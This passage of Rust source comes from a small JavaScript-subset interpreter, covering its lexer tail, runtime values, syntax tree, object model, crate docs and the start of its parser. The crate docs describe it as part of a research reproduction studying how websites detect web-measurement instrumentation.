            Some(b':') => Tok::Colon,
            Some(b'?') => Tok::Question,
            Some(b'=') => Tok::Assign,
            Some(b'+') => Tok::Plus,
            Some(b'-') => Tok::Minus,
            Some(b'*') => Tok::Star,
            Some(b'/') => Tok::Slash,
            Some(b'%') => Tok::Percent,
            Some(b'<') => Tok::Lt,
            Some(b'>') => Tok::Gt,
            Some(b'!') => Tok::Not,
            Some(b'&') => Tok::BitAnd,
            Some(b'|') => Tok::BitOr,
            Some(b'^') => Tok::BitXor,
            Some(b'~') => Tok::Tilde,
            Some(&c) => return Err(self.err(format!("unexpected character '{}'", c as char))),
            None => Tok::Eof,
        };
        self.pos += 1;
        Ok(tok)
    }
}

fn is_ident_start(c: u8) -> bool {
    c.is_ascii_alphabetic() || c == b'_' || c == b'$'
}

fn is_ident_part(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'_' || c == b'$'
}

fn utf8_len(first: u8) -> usize {
    match first {
        0x00..=0x7f => 1,
        0xc0..=0xdf => 2,
        0xe0..=0xef => 3,
        _ => 4,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(src: &str) -> Vec<Tok> {
        lex(src).unwrap().into_iter().map(|t| t.kind).collect()
    }

    #[test]
    fn basic_tokens() {
        assert_eq!(
            kinds("var x = 1 + 2;"),
            vec![
                Tok::Var,
                Tok::Ident(Arc::from("x")),
                Tok::Assign,
                Tok::Num(1.0),
                Tok::Plus,
                Tok::Num(2.0),
                Tok::Semi,
                Tok::Eof
            ]
        );
    }

    #[test]
    fn strings_and_escapes() {
        assert_eq!(kinds(r#"'a\x41b'"#), vec![Tok::Str(Arc::from("aAb")), Tok::Eof]);
        assert_eq!(kinds(r#""A""#), vec![Tok::Str(Arc::from("A")), Tok::Eof]);
        assert_eq!(kinds("`tick`"), vec![Tok::Str(Arc::from("tick")), Tok::Eof]);
    }

    #[test]
    fn comments_skipped() {
        assert_eq!(
            kinds("// line\n/* block\nmore */ 7"),
            vec![Tok::Num(7.0), Tok::Eof]
        );
    }

    #[test]
    fn numbers() {
        assert_eq!(kinds("0x10"), vec![Tok::Num(16.0), Tok::Eof]);
        assert_eq!(kinds("3.5"), vec![Tok::Num(3.5), Tok::Eof]);
        assert_eq!(kinds("1e3"), vec![Tok::Num(1000.0), Tok::Eof]);
    }

    #[test]
    fn multi_char_operators() {
        assert_eq!(
            kinds("a === b !== c && d || !e"),
            vec![
                Tok::Ident(Arc::from("a")),
                Tok::EqEqEq,
                Tok::Ident(Arc::from("b")),
                Tok::NotEqEq,
                Tok::Ident(Arc::from("c")),
                Tok::AndAnd,
                Tok::Ident(Arc::from("d")),
                Tok::OrOr,
                Tok::Not,
                Tok::Ident(Arc::from("e")),
                Tok::Eof
            ]
        );
    }

    #[test]
    fn line_numbers() {
        let toks = lex("a\nb\n  c").unwrap();
        assert_eq!(toks[0].line, 1);
        assert_eq!(toks[1].line, 2);
        assert_eq!(toks[2].line, 3);
    }

    #[test]
    fn unterminated_string_errors() {
        assert!(lex("'oops").is_err());
        assert!(lex("/* never closed").is_err());
    }

    #[test]
    fn arrow_and_updates() {
        assert_eq!(
            kinds("x => x++"),
            vec![
                Tok::Ident(Arc::from("x")),
                Tok::Arrow,
                Tok::Ident(Arc::from("x")),
                Tok::PlusPlus,
                Tok::Eof
            ]
        );
    }
}
