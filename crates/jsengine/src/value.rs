//! Runtime values.

use std::fmt;
use std::sync::Arc;

use crate::object::ObjId;

/// A MiniJS runtime value.
///
/// Strings are reference-counted and immutable; objects live in the
/// interpreter heap and are referred to by [`ObjId`]. Equality on `Value` is
/// *identity* equality for objects (the semantics of JavaScript `===` for
/// reference types) and value equality for primitives, so `Value` equality
/// implements strict equality directly except for the `NaN !== NaN` rule,
/// which [`Value::strict_eq`] handles.
#[derive(Clone, Debug, PartialEq)]
pub enum Value {
    Undefined,
    Null,
    Bool(bool),
    Num(f64),
    Str(Arc<str>),
    Obj(ObjId),
}

impl Value {
    /// Build a string value from anything string-like.
    pub fn str(s: impl AsRef<str>) -> Value {
        Value::Str(Arc::from(s.as_ref()))
    }

    /// JavaScript `===`.
    pub fn strict_eq(&self, other: &Value) -> bool {
        match (self, other) {
            (Value::Num(a), Value::Num(b)) => a == b, // NaN != NaN falls out of f64
            _ => self == other,
        }
    }

    /// JavaScript truthiness (`ToBoolean`).
    pub fn truthy(&self) -> bool {
        match self {
            Value::Undefined | Value::Null => false,
            Value::Bool(b) => *b,
            Value::Num(n) => *n != 0.0 && !n.is_nan(),
            Value::Str(s) => !s.is_empty(),
            Value::Obj(_) => true,
        }
    }

    /// `typeof` for non-callable values; the interpreter special-cases
    /// callables (which report `"function"`).
    pub fn type_of_primitive(&self) -> &'static str {
        match self {
            Value::Undefined => "undefined",
            Value::Null => "object",
            Value::Bool(_) => "boolean",
            Value::Num(_) => "number",
            Value::Str(_) => "string",
            Value::Obj(_) => "object",
        }
    }

    /// Numeric coercion (`ToNumber`) for primitives. Objects coerce to NaN
    /// here; the interpreter first converts objects to primitives where the
    /// spec requires it.
    pub fn to_number(&self) -> f64 {
        match self {
            Value::Undefined => f64::NAN,
            Value::Null => 0.0,
            Value::Bool(b) => {
                if *b {
                    1.0
                } else {
                    0.0
                }
            }
            Value::Num(n) => *n,
            Value::Str(s) => {
                let t = s.trim();
                if t.is_empty() {
                    0.0
                } else if let Some(hex) = t.strip_prefix("0x").or_else(|| t.strip_prefix("0X")) {
                    i64::from_str_radix(hex, 16).map(|v| v as f64).unwrap_or(f64::NAN)
                } else {
                    t.parse::<f64>().unwrap_or(f64::NAN)
                }
            }
            Value::Obj(_) => f64::NAN,
        }
    }

    pub fn as_obj(&self) -> Option<ObjId> {
        match self {
            Value::Obj(id) => Some(*id),
            _ => None,
        }
    }

    pub fn as_str(&self) -> Option<&str> {
        match self {
            Value::Str(s) => Some(s),
            _ => None,
        }
    }

    pub fn is_undefined(&self) -> bool {
        matches!(self, Value::Undefined)
    }

    pub fn is_nullish(&self) -> bool {
        matches!(self, Value::Undefined | Value::Null)
    }
}

/// Format an `f64` the way JavaScript's `ToString` does for the common cases
/// (integers print without a trailing `.0`).
pub fn number_to_string(n: f64) -> String {
    if n.is_nan() {
        "NaN".to_owned()
    } else if n.is_infinite() {
        if n > 0.0 { "Infinity".to_owned() } else { "-Infinity".to_owned() }
    } else if n == n.trunc() && n.abs() < 1e21 {
        // Integral values (including -0 which prints as "0").
        format!("{}", n as i64)
    } else {
        let s = format!("{n}");
        s
    }
}

impl fmt::Display for Value {
    /// Primitive-only display; object display requires the heap (the
    /// interpreter's `to_display_string` handles that).
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Value::Undefined => write!(f, "undefined"),
            Value::Null => write!(f, "null"),
            Value::Bool(b) => write!(f, "{b}"),
            Value::Num(n) => write!(f, "{}", number_to_string(*n)),
            Value::Str(s) => write!(f, "{s}"),
            Value::Obj(id) => write!(f, "[object #{}]", id.0),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn truthiness() {
        assert!(!Value::Undefined.truthy());
        assert!(!Value::Null.truthy());
        assert!(!Value::Num(0.0).truthy());
        assert!(!Value::Num(f64::NAN).truthy());
        assert!(!Value::str("").truthy());
        assert!(Value::str("x").truthy());
        assert!(Value::Num(-1.0).truthy());
    }

    #[test]
    fn number_formatting() {
        assert_eq!(number_to_string(42.0), "42");
        assert_eq!(number_to_string(-3.0), "-3");
        assert_eq!(number_to_string(2.5), "2.5");
        assert_eq!(number_to_string(f64::NAN), "NaN");
        assert_eq!(number_to_string(f64::INFINITY), "Infinity");
    }

    #[test]
    fn strict_eq_nan() {
        let nan = Value::Num(f64::NAN);
        assert!(!nan.strict_eq(&nan));
        assert!(Value::Num(1.0).strict_eq(&Value::Num(1.0)));
        assert!(!Value::Num(1.0).strict_eq(&Value::str("1")));
    }

    #[test]
    fn string_to_number() {
        assert_eq!(Value::str(" 42 ").to_number(), 42.0);
        assert_eq!(Value::str("").to_number(), 0.0);
        assert!(Value::str("abc").to_number().is_nan());
        assert_eq!(Value::str("0x10").to_number(), 16.0);
        assert_eq!(Value::Bool(true).to_number(), 1.0);
        assert_eq!(Value::Null.to_number(), 0.0);
    }
}
