//! Abstract syntax tree for the MiniJS subset.

use std::sync::Arc;

/// Binary operators.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum BinOp {
    Add,
    Sub,
    Mul,
    Div,
    Rem,
    Eq,
    NotEq,
    StrictEq,
    StrictNotEq,
    Lt,
    Gt,
    Le,
    Ge,
    BitAnd,
    BitOr,
    BitXor,
    Shl,
    Shr,
    UShr,
    /// `in` operator (property existence).
    In,
    /// `instanceof`.
    InstanceOf,
}

/// Unary operators.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum UnOp {
    Neg,
    Plus,
    Not,
    BitNot,
    TypeOf,
    /// `void`-like: `delete` is handled as its own expression node.
    Void,
}

/// Assignment flavours.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum AssignOp {
    Assign,
    Add,
    Sub,
    Mul,
    Div,
}

/// Assignment / update targets.
#[derive(Clone, Debug)]
pub enum Target {
    Ident(Arc<str>),
    /// `obj.key` — key resolved at parse time.
    Member(Box<Expr>, Arc<str>),
    /// `obj[expr]`.
    Index(Box<Expr>, Box<Expr>),
}

/// Expressions.
#[derive(Clone, Debug)]
pub enum Expr {
    Num(f64),
    Str(Arc<str>),
    Bool(bool),
    Null,
    Undefined,
    This,
    Ident(Arc<str>),
    /// Array literal.
    Array(Vec<Expr>),
    /// Object literal: `(key, value)` pairs.
    Object(Vec<(Arc<str>, Expr)>),
    /// Function expression (named or anonymous) and arrow functions.
    Function(Arc<FunctionDef>),
    /// `base.key`.
    Member { base: Box<Expr>, key: Arc<str>, line: u32 },
    /// `base[index]`.
    Index { base: Box<Expr>, index: Box<Expr>, line: u32 },
    /// Call; when the callee is a member expression, `this` binds to the
    /// base object — which is how instrumentation wrappers observe their
    /// receivers, and how `document.dispatchEvent` hijacking works.
    Call { callee: Box<Expr>, args: Vec<Expr>, line: u32 },
    /// `new Ctor(args)`.
    New { callee: Box<Expr>, args: Vec<Expr>, line: u32 },
    Binary { op: BinOp, left: Box<Expr>, right: Box<Expr> },
    /// Short-circuiting `&&` / `||`.
    Logical { and: bool, left: Box<Expr>, right: Box<Expr> },
    Unary { op: UnOp, operand: Box<Expr> },
    /// `delete obj.key` / `delete obj[k]`; `delete ident` evaluates to false.
    Delete(Target),
    Assign { op: AssignOp, target: Target, value: Box<Expr> },
    /// `++x`, `x++`, `--x`, `x--`.
    Update { target: Target, inc: bool, prefix: bool },
    Ternary { cond: Box<Expr>, then: Box<Expr>, otherwise: Box<Expr> },
    /// Comma sequence `(a, b)`.
    Sequence(Vec<Expr>),
}

/// A function definition shared between the AST and function objects (so
/// `Function.prototype.toString` can return the verbatim source slice).
#[derive(Clone, Debug)]
pub struct FunctionDef {
    /// Function name; empty for anonymous functions.
    pub name: Arc<str>,
    pub params: Vec<Arc<str>>,
    pub body: Arc<[Stmt]>,
    /// Verbatim source text of the definition (exactly what `toString`
    /// must return for script functions).
    pub source: Arc<str>,
    /// Name of the script this function was defined in — surfaces in stack
    /// traces as `fn@script:line`, the signal Sec. 3.1.4 exploits.
    pub script: Arc<str>,
    /// Line of the `function` keyword in the defining script.
    pub line: u32,
    /// Arrow functions bind `this` lexically.
    pub is_arrow: bool,
}

/// Statements.
#[derive(Clone, Debug)]
pub enum Stmt {
    Expr(Expr),
    /// `var`/`let`/`const` — scoping is function-level for all three (the
    /// corpus does not rely on TDZ semantics).
    VarDecl { name: Arc<str>, init: Option<Expr> },
    FunctionDecl(Arc<FunctionDef>),
    Return(Option<Expr>),
    If { cond: Expr, then: Vec<Stmt>, otherwise: Option<Vec<Stmt>> },
    While { cond: Expr, body: Vec<Stmt> },
    /// Classic `for(init; cond; update)`.
    For {
        init: Option<Box<Stmt>>,
        cond: Option<Expr>,
        update: Option<Expr>,
        body: Vec<Stmt>,
    },
    /// `for (var k in obj)` — enumerates own + inherited enumerable keys.
    ForIn { var: Arc<str>, object: Expr, body: Vec<Stmt> },
    /// `for (var v of arr)` — arrays and strings.
    ForOf { var: Arc<str>, object: Expr, body: Vec<Stmt> },
    Break,
    Continue,
    Throw(Expr, u32),
    Try {
        body: Vec<Stmt>,
        catch: Option<(Arc<str>, Vec<Stmt>)>,
        finally: Option<Vec<Stmt>>,
    },
    Block(Vec<Stmt>),
    Empty,
}

/// A parsed program.
#[derive(Clone, Debug)]
pub struct Program {
    pub body: Vec<Stmt>,
}
