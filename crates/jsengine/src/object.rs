//! The object model: heap, objects, properties, callables.
//!
//! Everything a detector script can observe about an object — own property
//! names and their insertion order, prototype links, accessor vs data
//! properties, callability, the `toString` source of functions — is
//! represented here. The OpenWPM instrumentation (in the `openwpm` crate)
//! manipulates objects exclusively through this model, which is what makes
//! its artefacts observable to scripts in exactly the ways the paper
//! describes.

use std::sync::Arc;

use crate::ast::FunctionDef;
use crate::atom::{Atom, AtomMap};
use crate::interp::{NativeFn, ScopeRef};
use crate::value::Value;

/// Index of an object in the interpreter heap.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct ObjId(pub u32);

/// A property slot: plain data or accessor pair.
#[derive(Clone, Debug)]
pub enum Slot {
    Data(Value),
    Accessor {
        /// Getter function object, if any.
        get: Option<ObjId>,
        /// Setter function object, if any.
        set: Option<ObjId>,
    },
}

/// A property with its attributes.
#[derive(Clone, Debug)]
pub struct Property {
    pub slot: Slot,
    pub enumerable: bool,
    pub writable: bool,
}

impl Property {
    pub fn data(v: Value) -> Property {
        Property { slot: Slot::Data(v), enumerable: true, writable: true }
    }

    pub fn data_hidden(v: Value) -> Property {
        Property { slot: Slot::Data(v), enumerable: false, writable: true }
    }

    pub fn accessor(get: Option<ObjId>, set: Option<ObjId>) -> Property {
        Property { slot: Slot::Accessor { get, set }, enumerable: true, writable: true }
    }
}

/// Insertion-ordered property map (the iteration order scripts see in
/// `for`-`in` and `Object.getOwnPropertyNames`).
///
/// The side index is keyed by interned [`Atom`]s, so a lookup hashes the
/// property name at most once (through the interner's per-thread cache)
/// and probes on a `u32` — string hashing is off the proto-chain walk. A
/// miss in [`Atom::lookup`] is a definitive absence: every insert interns
/// its key, so a never-interned name can't be in any map's index.
#[derive(Clone, Debug, Default)]
pub struct PropMap {
    entries: Vec<(Arc<str>, Property)>,
    index: AtomMap<usize>,
}

impl PropMap {
    pub fn new() -> PropMap {
        PropMap::default()
    }

    fn slot_of(&self, key: &str) -> Option<usize> {
        let atom = Atom::lookup(key)?;
        self.index.get(&atom).copied()
    }

    pub fn get(&self, key: &str) -> Option<&Property> {
        self.slot_of(key).map(|i| &self.entries[i].1)
    }

    pub fn get_mut(&mut self, key: &str) -> Option<&mut Property> {
        match self.slot_of(key) {
            Some(i) => Some(&mut self.entries[i].1),
            None => None,
        }
    }

    pub fn contains(&self, key: &str) -> bool {
        self.slot_of(key).is_some()
    }

    /// Insert or overwrite, preserving the original insertion position on
    /// overwrite (as JavaScript engines do).
    pub fn insert(&mut self, key: Arc<str>, prop: Property) {
        let atom = Atom::intern_arc(&key);
        if let Some(&i) = self.index.get(&atom) {
            self.entries[i].1 = prop;
        } else {
            self.index.insert(atom, self.entries.len());
            self.entries.push((key, prop));
        }
    }

    /// Delete a property. Returns whether it existed. O(n) — deletes are
    /// rare (only the instrumentation clean-up path uses them).
    pub fn remove(&mut self, key: &str) -> bool {
        let Some(atom) = Atom::lookup(key) else { return false };
        if let Some(i) = self.index.remove(&atom) {
            self.entries.remove(i);
            // Reindex everything after the removed slot.
            for (j, (k, _)) in self.entries.iter().enumerate().skip(i) {
                self.index.insert(Atom::intern_arc(k), j);
            }
            true
        } else {
            false
        }
    }

    pub fn keys(&self) -> impl Iterator<Item = &Arc<str>> {
        self.entries.iter().map(|(k, _)| k)
    }

    pub fn iter(&self) -> impl Iterator<Item = (&Arc<str>, &Property)> {
        self.entries.iter().map(|(k, p)| (k, p))
    }

    pub fn len(&self) -> usize {
        self.entries.len()
    }

    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }
}

/// What makes a function object callable.
#[derive(Clone)]
pub enum Callable {
    /// A host function implemented in Rust. `name` feeds both `fn.name` and
    /// the `function name() { [native code] }` rendering of `toString`, so a
    /// native-backed hook is indistinguishable from a pristine builtin via
    /// `toString` — the crux of the paper's stealth design (Sec. 6.1.1).
    Native { name: Arc<str>, f: NativeFn },
    /// A function defined in MiniJS source. `toString` returns the original
    /// source slice, which is how scripts detect OpenWPM's script-level
    /// wrappers (Listing 1 of the paper).
    Script { def: Arc<FunctionDef>, env: ScopeRef },
}

impl std::fmt::Debug for Callable {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Callable::Native { name, .. } => write!(f, "Callable::Native({name})"),
            Callable::Script { def, .. } => write!(f, "Callable::Script({})", def.name),
        }
    }
}

/// A heap object.
#[derive(Clone, Debug, Default)]
pub struct JsObject {
    /// Prototype link (`Object.getPrototypeOf`).
    pub proto: Option<ObjId>,
    /// Own properties in insertion order.
    pub props: PropMap,
    /// Set when the object is callable.
    pub call: Option<Callable>,
    /// Internal class tag: `"Object"`, `"Function"`, `"Array"`, `"Error"`,
    /// and host classes such as `"Navigator"`, `"Window"`, `"HTMLElement"`.
    /// Host accessors use it to validate `this` (illegal-invocation errors).
    pub class: Arc<str>,
    /// Dense backing store for arrays.
    pub elements: Option<Vec<Value>>,
    /// Host-attached opaque id; the browser crate uses it to link element
    /// objects and child-frame windows back to host-side structures.
    pub host_data: Option<u32>,
}

impl JsObject {
    pub fn plain(proto: Option<ObjId>) -> JsObject {
        JsObject { proto, class: Arc::from("Object"), ..Default::default() }
    }

    pub fn with_class(proto: Option<ObjId>, class: &str) -> JsObject {
        JsObject { proto, class: Arc::from(class), ..Default::default() }
    }

    pub fn is_callable(&self) -> bool {
        self.call.is_some()
    }

    pub fn is_array(&self) -> bool {
        self.elements.is_some()
    }
}

/// The object heap. A plain growing arena: pages are short-lived and the
/// whole realm is dropped after a visit, so no GC is needed (this mirrors
/// how the reproduction uses one realm per page load). Cloning a heap
/// duplicates every object while preserving ids — the basis of
/// [`Interp::clone_realm`](crate::interp::Interp::clone_realm).
#[derive(Clone, Debug, Default)]
pub struct Heap {
    objects: Vec<JsObject>,
}

impl Heap {
    pub fn new() -> Heap {
        Heap::default()
    }

    pub fn alloc(&mut self, obj: JsObject) -> ObjId {
        let id = ObjId(self.objects.len() as u32);
        self.objects.push(obj);
        id
    }

    pub fn get(&self, id: ObjId) -> &JsObject {
        &self.objects[id.0 as usize]
    }

    pub fn get_mut(&mut self, id: ObjId) -> &mut JsObject {
        &mut self.objects[id.0 as usize]
    }

    /// Mutable iteration over every object (realm cloning re-binds
    /// script-function environments with this).
    pub fn objects_mut(&mut self) -> impl Iterator<Item = &mut JsObject> {
        self.objects.iter_mut()
    }

    pub fn len(&self) -> usize {
        self.objects.len()
    }

    pub fn is_empty(&self) -> bool {
        self.objects.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn propmap_preserves_insertion_order() {
        let mut m = PropMap::new();
        for k in ["b", "a", "c"] {
            m.insert(Arc::from(k), Property::data(Value::Num(1.0)));
        }
        let keys: Vec<&str> = m.keys().map(|k| &**k).collect();
        assert_eq!(keys, vec!["b", "a", "c"]);
        // Overwrite keeps position.
        m.insert(Arc::from("a"), Property::data(Value::Num(2.0)));
        let keys: Vec<&str> = m.keys().map(|k| &**k).collect();
        assert_eq!(keys, vec!["b", "a", "c"]);
    }

    #[test]
    fn propmap_remove_reindexes() {
        let mut m = PropMap::new();
        for k in ["x", "y", "z"] {
            m.insert(Arc::from(k), Property::data(Value::Num(0.0)));
        }
        assert!(m.remove("y"));
        assert!(!m.remove("y"));
        assert!(m.contains("z"));
        m.insert(Arc::from("w"), Property::data(Value::Num(3.0)));
        let keys: Vec<&str> = m.keys().map(|k| &**k).collect();
        assert_eq!(keys, vec!["x", "z", "w"]);
        assert!(matches!(m.get("w").unwrap().slot, Slot::Data(Value::Num(n)) if n == 3.0));
    }

    #[test]
    fn heap_alloc_get() {
        let mut h = Heap::new();
        let id = h.alloc(JsObject::plain(None));
        assert_eq!(h.get(id).class.as_ref(), "Object");
        h.get_mut(id).props.insert(Arc::from("k"), Property::data(Value::Bool(true)));
        assert!(h.get(id).props.contains("k"));
    }
}
