//! # MiniJS — a small JavaScript-subset interpreter
//!
//! `jsengine` is the scripting substrate of the *gullible* reproduction of
//! "How gullible are web measurement tools?" (CoNEXT '22). The paper's
//! attacks and defences all live at the JavaScript layer of a browser:
//! `Function.prototype.toString` leakage of instrumentation wrappers, stack
//! traces that expose wrapper frames, prototype pollution, property probing
//! and iteration, event-dispatcher hijacking, and `eval`-based silent code
//! delivery. Rather than hard-coding the outcome of those techniques, this
//! crate implements enough of JavaScript that they *emerge* from the
//! semantics:
//!
//! * a full object model with prototype chains, data and accessor
//!   properties, enumerability and property deletion;
//! * closures, `this` binding, `new`, `arguments`, `call`/`apply`;
//! * `try`/`catch`/`finally`, `throw`, and `Error` objects whose `.stack`
//!   reflects the real interpreter call stack (so a wrapped API call really
//!   does show the wrapper's frames);
//! * `Function.prototype.toString` returning the original source text for
//!   script functions and a `[native code]` body for native functions (so
//!   wrapper detection via `toString` really works);
//! * `eval` and a timer/job queue (so the silent-JS-delivery and delayed
//!   iframe attacks can be expressed verbatim);
//! * `for`-`in` iteration and `Object.getOwnPropertyNames` (so template
//!   attacks and honey-property traps behave as in the paper).
//!
//! The engine ships two execution backends behind one [`Engine`] API: the
//! original tree-walking interpreter (the reference oracle — maximally
//! debuggable, semantics written down once) and a bytecode VM
//! ([`bytecode`] + [`vm`]) that compiles each script once per
//! [`CompiledScript`] handle and runs a flat dispatch loop over the same
//! runtime (values, objects, builtins, error paths). The two are required
//! to be observably identical — per-site records, step budgets, traces and
//! telemetry digests byte-for-byte — and a differential harness enforces
//! it; the VM exists purely because the scan's interpretation phase
//! dominates visit wall time (the `bench` crate's `ablation_engine`
//! quantifies the speedup).
//!
//! ## Quick example
//!
//! ```
//! use jsengine::{Interp, Value};
//!
//! let mut interp = Interp::new();
//! let v = interp.eval_script("var x = 2; x + 40", "inline").unwrap();
//! assert_eq!(v, Value::Num(42.0));
//! ```
//!
//! Host environments (the `browser` crate) install host objects such as
//! `window`, `navigator` and `document` onto the global object and register
//! native functions that close over host state.

pub mod ast;
pub mod atom;
pub mod bytecode;
pub mod compile;
pub mod error;
pub mod interp;
pub mod lexer;
pub mod object;
pub mod parser;
pub mod profiler;
pub mod value;
pub mod vm;

mod builtins;

pub use compile::{
    cache, cache_enabled, compile, compile_cached, set_cache_enabled, set_cache_shards,
    CacheStats, CompileCache, CompiledScript, ScriptSource,
};
pub use vm::{default_engine, set_default_engine, Engine};
pub use atom::{Atom, AtomMap};
pub use error::{EngineError, Thrown};
pub use interp::{Frame, Interp, NativeFn, ScopeRef};
pub use profiler::{CountingProfiler, Profile, Profiler};
pub use object::{Callable, JsObject, ObjId, PropMap, Property, Slot};
pub use value::Value;

/// Convenience: parse and run a script in a fresh interpreter, returning the
/// final expression value. Used heavily in tests.
pub fn eval(src: &str) -> Result<Value, EngineError> {
    let mut interp = Interp::new();
    interp.eval_script(src, "eval")
}
