//! Recursive-descent parser for the MiniJS subset.
//!
//! The parser keeps the original source around so that every
//! [`FunctionDef`] records its verbatim source slice — this is what
//! `Function.prototype.toString` returns for script functions, and is the
//! signal websites use to detect OpenWPM's JavaScript wrappers (paper
//! Listing 1).

use std::sync::Arc;

use crate::ast::*;
use crate::error::EngineError;
use crate::lexer::{lex, Tok, Token};

/// Parse a full program.
pub fn parse(src: &str, script_name: &str) -> Result<Program, EngineError> {
    let tokens = lex(src)
        .map_err(|e| EngineError::Parse { line: e.line, message: e.message })?;
    let mut p = Parser {
        src,
        script: Arc::from(script_name),
        tokens,
        pos: 0,
    };
    let mut body = Vec::new();
    while !p.at(&Tok::Eof) {
        body.push(p.statement()?);
    }
    Ok(Program { body })
}

struct Parser<'a> {
    src: &'a str,
    script: Arc<str>,
    tokens: Vec<Token>,
    pos: usize,
}

impl<'a> Parser<'a> {
    fn peek(&self) -> &Tok {
        &self.tokens[self.pos].kind
    }

    fn peek2(&self) -> &Tok {
        &self.tokens[(self.pos + 1).min(self.tokens.len() - 1)].kind
    }

    fn line(&self) -> u32 {
        self.tokens[self.pos].line
    }

    fn at(&self, t: &Tok) -> bool {
        self.peek() == t
    }

    fn bump(&mut self) -> Token {
        let t = self.tokens[self.pos].clone();
        if self.pos + 1 < self.tokens.len() {
            self.pos += 1;
        }
        t
    }

    fn eat(&mut self, t: &Tok) -> bool {
        if self.at(t) {
            self.bump();
            true
        } else {
            false
        }
    }

    fn expect(&mut self, t: &Tok) -> Result<Token, EngineError> {
        if self.at(t) {
            Ok(self.bump())
        } else {
            Err(self.err(format!("expected {:?}, found {:?}", t, self.peek())))
        }
    }

    fn err(&self, message: impl Into<String>) -> EngineError {
        EngineError::Parse { line: self.line(), message: message.into() }
    }

    fn ident(&mut self) -> Result<Arc<str>, EngineError> {
        match self.peek().clone() {
            Tok::Ident(name) => {
                self.bump();
                Ok(name)
            }
            // Contextual keywords usable as identifiers in the corpus.
            Tok::Of => {
                self.bump();
                Ok(Arc::from("of"))
            }
            other => Err(self.err(format!("expected identifier, found {other:?}"))),
        }
    }

    // ---------------------------------------------------------- statements

    fn statement(&mut self) -> Result<Stmt, EngineError> {
        match self.peek().clone() {
            Tok::Semi => {
                self.bump();
                Ok(Stmt::Empty)
            }
            Tok::LBrace => {
                self.bump();
                let body = self.block_body()?;
                Ok(Stmt::Block(body))
            }
            Tok::Var | Tok::Let | Tok::Const => {
                let stmt = self.var_decl()?;
                self.eat(&Tok::Semi);
                Ok(stmt)
            }
            Tok::Function => {
                let def = self.function(true)?;
                Ok(Stmt::FunctionDecl(def))
            }
            Tok::Return => {
                self.bump();
                let value = if self.at(&Tok::Semi) || self.at(&Tok::RBrace) || self.at(&Tok::Eof)
                {
                    None
                } else {
                    Some(self.expression()?)
                };
                self.eat(&Tok::Semi);
                Ok(Stmt::Return(value))
            }
            Tok::If => self.if_stmt(),
            Tok::While => {
                self.bump();
                self.expect(&Tok::LParen)?;
                let cond = self.expression()?;
                self.expect(&Tok::RParen)?;
                let body = self.stmt_as_block()?;
                Ok(Stmt::While { cond, body })
            }
            Tok::For => self.for_stmt(),
            Tok::Break => {
                self.bump();
                self.eat(&Tok::Semi);
                Ok(Stmt::Break)
            }
            Tok::Continue => {
                self.bump();
                self.eat(&Tok::Semi);
                Ok(Stmt::Continue)
            }
            Tok::Throw => {
                let line = self.line();
                self.bump();
                let e = self.expression()?;
                self.eat(&Tok::Semi);
                Ok(Stmt::Throw(e, line))
            }
            Tok::Try => self.try_stmt(),
            _ => {
                let e = self.expression()?;
                self.eat(&Tok::Semi);
                Ok(Stmt::Expr(e))
            }
        }
    }

    /// A `var`/`let`/`const` declaration list (single statement, possibly
    /// multiple declarators) — returns a Block when more than one.
    fn var_decl(&mut self) -> Result<Stmt, EngineError> {
        self.bump(); // var/let/const
        let mut decls = Vec::new();
        loop {
            let name = self.ident()?;
            let init = if self.eat(&Tok::Assign) {
                Some(self.assignment()?)
            } else {
                None
            };
            decls.push(Stmt::VarDecl { name, init });
            if !self.eat(&Tok::Comma) {
                break;
            }
        }
        if decls.len() == 1 {
            Ok(decls.pop().unwrap())
        } else {
            Ok(Stmt::Block(decls))
        }
    }

    fn if_stmt(&mut self) -> Result<Stmt, EngineError> {
        self.expect(&Tok::If)?;
        self.expect(&Tok::LParen)?;
        let cond = self.expression()?;
        self.expect(&Tok::RParen)?;
        let then = self.stmt_as_block()?;
        let otherwise = if self.eat(&Tok::Else) {
            Some(self.stmt_as_block()?)
        } else {
            None
        };
        Ok(Stmt::If { cond, then, otherwise })
    }

    fn for_stmt(&mut self) -> Result<Stmt, EngineError> {
        self.expect(&Tok::For)?;
        self.expect(&Tok::LParen)?;
        // for (var k in obj) / for (var v of arr) / classic for.
        if matches!(self.peek(), Tok::Var | Tok::Let | Tok::Const) {
            // Look ahead to distinguish for-in/of from classic with decl.
            if let Tok::Ident(_) = self.peek2() {
                let save = self.pos;
                self.bump(); // var
                let var = self.ident()?;
                if self.eat(&Tok::In) {
                    let object = self.expression()?;
                    self.expect(&Tok::RParen)?;
                    let body = self.stmt_as_block()?;
                    return Ok(Stmt::ForIn { var, object, body });
                }
                if self.eat(&Tok::Of) {
                    let object = self.expression()?;
                    self.expect(&Tok::RParen)?;
                    let body = self.stmt_as_block()?;
                    return Ok(Stmt::ForOf { var, object, body });
                }
                self.pos = save;
            }
        } else if let Tok::Ident(_) = self.peek() {
            // `for (k in obj)` without declaration.
            if matches!(self.peek2(), Tok::In | Tok::Of) {
                let var = self.ident()?;
                let is_in = self.eat(&Tok::In);
                if !is_in {
                    self.expect(&Tok::Of)?;
                }
                let object = self.expression()?;
                self.expect(&Tok::RParen)?;
                let body = self.stmt_as_block()?;
                return Ok(if is_in {
                    Stmt::ForIn { var, object, body }
                } else {
                    Stmt::ForOf { var, object, body }
                });
            }
        }
        // Classic for.
        let init = if self.at(&Tok::Semi) {
            self.bump();
            None
        } else if matches!(self.peek(), Tok::Var | Tok::Let | Tok::Const) {
            let d = self.var_decl()?;
            self.expect(&Tok::Semi)?;
            Some(Box::new(d))
        } else {
            let e = self.expression()?;
            self.expect(&Tok::Semi)?;
            Some(Box::new(Stmt::Expr(e)))
        };
        let cond = if self.at(&Tok::Semi) { None } else { Some(self.expression()?) };
        self.expect(&Tok::Semi)?;
